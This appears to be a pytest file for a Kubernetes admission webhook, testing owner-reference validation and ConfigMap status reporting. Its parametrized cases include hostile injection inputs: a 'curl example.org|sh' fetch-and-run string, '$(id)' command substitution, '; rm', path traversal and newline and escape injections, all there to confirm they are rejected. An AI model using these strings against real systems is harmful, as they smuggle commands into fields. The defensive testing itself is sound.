"""What is taken of an owner reference, which is any text, and what of many statements gets into the ConfigMap."""

from __future__ import annotations

import msgspec
import pytest

from tests.edges.strangers import Cluster
from webhook.admission import Reason, Risk
from webhook.cluster.api import ApiError
from webhook.cluster.census import Found, Owner, controller
from webhook.cluster.pods import Judged, State
from webhook.cluster.report import Reporter, remedy, state

GOOD = {
    "apiVersion": "apps/v1",
    "kind": "ReplicaSet",
    "name": "plane-app-api-wl-7c9",
    "uid": "0b-1",
    "controller": True,
}


@pytest.mark.parametrize(
    ("field", "text"),
    [
        ("name", "api; curl example.org|sh #"),
        ("name", "../deployments/x"),
        ("name", "a/b"),
        ("name", "a\nmissed deployment/other (injected)"),
        ("name", "\x1b[2J"),
        ("name", "a" * 254),
        ("name", ""),
        ("kind", "Deployment/x; rm"),
        ("apiVersion", "apps/v1\n"),
        ("apiVersion", "$(id)/v1"),
        ("uid", "\n"),
    ],
)
def test_a_controller_that_can_not_be_one_is_none(field: str, text: str) -> None:
    assert controller(msgspec.json.encode({"metadata": {"ownerReferences": [GOOD | {field: text}]}})) is None


def test_a_controller_of_any_kind_is_one() -> None:
    other = GOOD | {"apiVersion": "argoproj.io/v1alpha1", "kind": "Rollout", "name": "a.b-c"}
    for each in (GOOD, other):
        found = controller(msgspec.json.encode({"metadata": {"ownerReferences": [each]}}))
        assert found == Owner(each["apiVersion"], each["kind"], each["name"], each["uid"])


def pod(name: str, judged: State = State.MISSED, *risks: Risk, api_version: str = "apps/v1") -> Found:
    owner = Owner(api_version, "Deployment", name, name)
    reason = Reason.INJECTED if judged is State.MISSED else Reason.ALREADY_INJECTED
    kind = Judged(judged, reason, risks=risks)
    return Found("plane", name, name, owner, controller=None, ready=True, leaving=False, judged=kind)


def test_a_restart_is_advised_for_what_kubectl_can_restart() -> None:
    assert remedy(pod("api")) == ": kubectl -n plane rollout restart deployment/api"
    assert remedy(pod("api", api_version="example.org/v1")) == ""


def test_the_state_has_what_was_said_once_and_what_wants_a_hand_now() -> None:
    found = [pod("a"), pod("b", State.INJECTED, Risk.BARE_NEIGHBOUR)]
    line = f"risk deployment/b ({Risk.BARE_NEIGHBOUR})"
    assert state(found, ["plane"], said=())["plane"].splitlines()[1:] == ["missed deployment/a (injected)"]
    assert state(found, ["plane"], said={f"plane {line}"})["plane"].splitlines()[1:] == [
        "missed deployment/a (injected)",
        line,
    ]


def test_what_wants_a_hand_is_said_first() -> None:
    """Of many things at once only so many are said with a look."""
    risky = [pod(f"a-{number}", State.INJECTED, Risk.BARE_NEIGHBOUR) for number in range(50)]
    cluster = Cluster({})
    with cluster as api, pytest.raises(ApiError):  # for it takes no ConfigMap
        Reporter(api, "plane-webhook").report([*risky, pod("z")], ["plane"])
    assert len(cluster.posted) == 20
    assert [each["reason"] for each in cluster.posted[:2]] == ["NotInjected", "Risk"]


def test_the_state_of_however_many_pods_fits_into_a_config_map() -> None:
    found = [pod(f"{'a' * 240}{number}") for number in range(5000)]
    (text,) = state(found, ["plane"], said=()).values()
    assert text.splitlines()[0] == "injected: 0, missed: 5000, outdated: 0, uncovered: 0"
    assert text.splitlines()[-1] == "... and 4800 more"
    many = [f"plane-{number}" for number in range(50)]
    everywhere = [msgspec.structs.replace(each, namespace=name) for name in many for each in found[:300]]
    written = state(everywhere, many, said=())
    assert sum(map(len, written.values())) < 1_000_000
    assert all(text.startswith("injected: 0, missed: 300") for text in written.values())
    assert written[many[-1]].endswith("... and 300 more")
